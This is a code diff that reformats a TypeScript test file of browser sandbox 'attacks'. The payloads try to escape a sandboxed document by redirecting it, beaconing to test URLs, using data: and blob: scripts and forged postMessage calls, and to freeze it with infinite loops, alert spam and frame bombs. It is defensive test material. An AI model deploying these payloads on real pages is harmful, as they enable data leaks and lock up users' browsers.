@@ -1,6 +1,9 @@
 import type { Attack } from '../attack.ts';
 
-/** What an attack of a document tries, once there and once in a frame that the document writes, where nothing was taken away. */
+/**
+ * What an attack of a document tries, once there and once in a frame that the document writes, where nothing was taken
+ * away.
+ */
 function both(source: string): string {
   return `
     const tryAll = 'async (where) => {' + ${JSON.stringify(source)} + '}';
@@ -17,7 +20,8 @@ function both(source: string): string {
     await new Promise((resolve) => setTimeout(resolve, 300));`;
 }
 
-const NET = "const url = params.http + '/' + params.token + '/' + where; const named = params.named + '/' + params.token;";
+const NET =
+  "const url = params.http + '/' + params.token + '/' + where; const named = params.named + '/' + params.token;";
 
 /** Puts markup with addresses into the document and tells of each that was loaded. */
 const MARKUP = `${NET}
@@ -148,7 +152,10 @@ const FORGED = `
   for (const other of new Set([window.parent, window.top])) for (const message of messages) lab.attempt('post', () => { const { port1, port2 } = new MessageChannel(); port2.onmessage = (event) => lab.keep('a port answered', event.data); other.postMessage(message, '*', [port1]); port2.postMessage({ type: 'close-all-frames' }); });
   await new Promise((resolve) => setTimeout(resolve, 300));`;
 
-/** Chromium ends the process of a document without connections that opens one by WebRTC; the test runner takes that for the page's. */
+/**
+ * Chromium ends the process of a document without connections that opens one by WebRTC; the test runner takes that for
+ * the page's.
+ */
 export const DOM_WEBRTC = both(WEBRTC);
 
 const group = 'network';
@@ -159,7 +166,13 @@ export const DOM_ATTACKS: readonly Attack[] = [
   { name: 'forms, beacons, pings, requests of a fresh frame', group, code: both(SENDING) },
   { name: 'the windows around it', group, code: both(AROUND), takesKeyboard: true },
   { name: 'windows, dialogs, downloads, devices, clipboard, files', group, code: both(POWERS) },
-  { name: 'forged messages to the windows around it', group: 'forged', code: FORGED, losses: ({ result }) => (result.success && result.result === null ? [] : [`the answer was ${JSON.stringify(result).slice(0, 200)}`]) },
+  {
+    name: 'forged messages to the windows around it',
+    group: 'forged',
+    code: FORGED,
+    losses: ({ result }) =>
+      result.success && result.result === null ? [] : [`the answer was ${JSON.stringify(result).slice(0, 200)}`],
+  },
   {
     name: 'what is left behind: timers, workers, words at the end',
     group,
@@ -175,22 +188,44 @@ export const DOM_ATTACKS: readonly Attack[] = [
 
 /** Each takes the document away from its tool: the run ends, and nothing is reached. */
 function leaving(name: string, code: string): Attack {
-  return { name: `it leaves its document: ${name}`, group, code: `const url = params.http + '/' + params.token; const named = params.named + '/' + params.token; ${code}; await new Promise(() => {});`, reports: false, timeoutMs: 3_000, ends: ['crashed', 'timeout'] };
+  return {
+    name: `it leaves its document: ${name}`,
+    group,
+    code: `const url = params.http + '/' + params.token; const named = params.named + '/' + params.token; ${code}; await new Promise(() => {});`,
+    reports: false,
+    timeoutMs: 3_000,
+    ends: ['crashed', 'timeout'],
+  };
 }
 
 export const DOM_LEAVING: readonly Attack[] = [
   leaving('location', 'location.href = url'),
   leaving('location by name', 'location.assign(named)'),
   leaving('replace, with what it knows', 'location.replace(named + "?" + encodeURIComponent(navigator.userAgent))'),
-  leaving('a refresh', 'document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\'0;url=" + named + "\'>")'),
+  leaving(
+    'a refresh',
+    'document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\'0;url=" + named + "\'>")',
+  ),
   leaving('a link', 'const a = document.createElement("a"); a.href = named; document.body.append(a); a.click()'),
-  leaving('a form', 'const form = document.createElement("form"); form.action = named; document.body.append(form); form.submit()'),
+  leaving(
+    'a form',
+    'const form = document.createElement("form"); form.action = named; document.body.append(form); form.submit()',
+  ),
   leaving('to the app', 'location.href = params.app + "/"'),
   leaving('to the app’s own sandbox document', 'location.href = document.baseURI'),
   leaving('to StackBlitz', 'location.href = "https://stackblitz.com/" + params.token'),
-  leaving('to a document of its own making', 'location.href = URL.createObjectURL(new Blob(["<script>new Image().src = " + JSON.stringify(url) + "; fetch(" + JSON.stringify(named) + "); location.href = " + JSON.stringify(url) + "</scr" + "ipt>"], { type: "text/html" }))'),
-  leaving('to data:', 'location.href = "data:text/html,<script>new Image().src=" + JSON.stringify(url) + "</scr" + "ipt>"'),
-  leaving('to about:blank, with a script that stays', 'const f = document.createElement("iframe"); f.srcdoc = "<script>setInterval(() => { new Image().src = " + JSON.stringify(url) + "; parent.location = " + JSON.stringify(named) + " }, 20)</scr" + "ipt>"; document.body.append(f); await new Promise((r) => setTimeout(r, 100)); location.href = "about:blank"'),
+  leaving(
+    'to a document of its own making',
+    'location.href = URL.createObjectURL(new Blob(["<script>new Image().src = " + JSON.stringify(url) + "; fetch(" + JSON.stringify(named) + "); location.href = " + JSON.stringify(url) + "</scr" + "ipt>"], { type: "text/html" }))',
+  ),
+  leaving(
+    'to data:',
+    'location.href = "data:text/html,<script>new Image().src=" + JSON.stringify(url) + "</scr" + "ipt>"',
+  ),
+  leaving(
+    'to about:blank, with a script that stays',
+    'const f = document.createElement("iframe"); f.srcdoc = "<script>setInterval(() => { new Image().src = " + JSON.stringify(url) + "; parent.location = " + JSON.stringify(named) + " }, 20)</scr" + "ipt>"; document.body.append(f); await new Promise((r) => setTimeout(r, 100)); location.href = "about:blank"',
+  ),
   leaving('and comes back', 'parent.postMessage("toolyard-document-up", "*")'),
 ];
 
@@ -203,11 +238,36 @@ export const DOM_FREEZE: readonly Attack[] = [
   endless('while (true)', 'for (;;);'),
   endless('a microtask loop', 'const again = () => Promise.resolve().then(again); await again();'),
   endless('alerts without end', 'for (;;) alert("attack");'),
-  endless('elements without end', 'for (;;) document.body.append(document.createElement("div"));', ['timeout', 'crashed']),
-  endless('layout without end', 'document.body.innerHTML = "<table>".repeat(300); for (let i = 0; ; i += 1) { document.body.style.width = i % 900 + "px"; document.body.offsetHeight; }'),
-  endless('frames in frames', 'const add = (doc) => { const f = doc.createElement("iframe"); doc.body.append(f); if (f.contentDocument?.body) add(f.contentDocument); for (let i = 0; i < 50; i += 1) { const g = doc.createElement("iframe"); g.srcdoc = "<script>for(;;);</scr" + "ipt>"; doc.body.append(g); } }; add(document); for (;;);', ['timeout', 'crashed']),
-  endless('focus without end', 'document.body.innerHTML = "<input>"; setInterval(() => { window.focus(); document.querySelector("input").focus(); top.focus(); }, 0); for (;;) await new Promise((r) => setTimeout(r));', ['timeout', 'aborted']),
-  endless('animation without end', 'const frame = () => { const until = performance.now() + 500; while (performance.now() < until); requestAnimationFrame(frame); }; frame(); await new Promise(() => {});'),
-  endless('messages to the app without end', 'for (;;) { top.postMessage("x".repeat(1000), "*"); parent.postMessage("toolyard-document-leave", "*"); await null; }', ['timeout', 'crashed']),
-  endless('history and titles without end', 'for (let i = 0; ; i += 1) { try { history.pushState(i, ""); location.hash = String(i); } catch {} document.title = String(i); if (i % 100 === 0) await new Promise((r) => setTimeout(r)); }', ['timeout', 'crashed']),
+  endless('elements without end', 'for (;;) document.body.append(document.createElement("div"));', [
+    'timeout',
+    'crashed',
+  ]),
+  endless(
+    'layout without end',
+    'document.body.innerHTML = "<table>".repeat(300); for (let i = 0; ; i += 1) { document.body.style.width = i % 900 + "px"; document.body.offsetHeight; }',
+  ),
+  endless(
+    'frames in frames',
+    'const add = (doc) => { const f = doc.createElement("iframe"); doc.body.append(f); if (f.contentDocument?.body) add(f.contentDocument); for (let i = 0; i < 50; i += 1) { const g = doc.createElement("iframe"); g.srcdoc = "<script>for(;;);</scr" + "ipt>"; doc.body.append(g); } }; add(document); for (;;);',
+    ['timeout', 'crashed'],
+  ),
+  endless(
+    'focus without end',
+    'document.body.innerHTML = "<input>"; setInterval(() => { window.focus(); document.querySelector("input").focus(); top.focus(); }, 0); for (;;) await new Promise((r) => setTimeout(r));',
+    ['timeout', 'aborted'],
+  ),
+  endless(
+    'animation without end',
+    'const frame = () => { const until = performance.now() + 500; while (performance.now() < until); requestAnimationFrame(frame); }; frame(); await new Promise(() => {});',
+  ),
+  endless(
+    'messages to the app without end',
+    'for (;;) { top.postMessage("x".repeat(1000), "*"); parent.postMessage("toolyard-document-leave", "*"); await null; }',
+    ['timeout', 'crashed'],
+  ),
+  endless(
+    'history and titles without end',
+    'for (let i = 0; ; i += 1) { try { history.pushState(i, ""); location.hash = String(i); } catch {} document.title = String(i); if (i % 100 === 0) await new Promise((r) => setTimeout(r)); }',
+    ['timeout', 'crashed'],
+  ),
 ];
